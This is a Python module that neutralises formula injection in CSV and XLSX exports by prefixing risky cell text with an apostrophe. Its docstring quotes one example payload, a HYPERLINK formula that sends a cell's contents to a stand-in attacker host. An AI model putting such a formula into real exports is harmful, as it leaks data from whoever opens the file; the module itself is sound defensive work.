"""Cells written to CSV and XLSX files never carry a formula (issue 10 item 5).

A spreadsheet opening an export treats text beginning with `=`, `+`, `-` or `@` (and, in some
programs, a tab or carriage return) as a formula: a person's name such as
`=HYPERLINK("http://evil.example/?"&A1,"Click")` would run when a manager opens the file.
Following OWASP's advice on CSV injection, such text is written with a leading apostrophe, so
it reads as the text it is. Numbers and dates are written as they are: a negative number is a
number, not text."""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def is_formula_like(text: str) -> bool:
    """Whether a spreadsheet could read this text as a formula."""
    return text.startswith(FORMULA_STARTS)


def safe_cell(value: Any) -> Any:
    """The value to write to a CSV or XLSX cell: text a spreadsheet would run is prefixed with
    `'`; None is an empty cell; anything else (numbers, dates) is unchanged."""
    if value is None:
        return ""
    if isinstance(value, str) and is_formula_like(value):
        return "'" + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [safe_cell(v) for v in values]
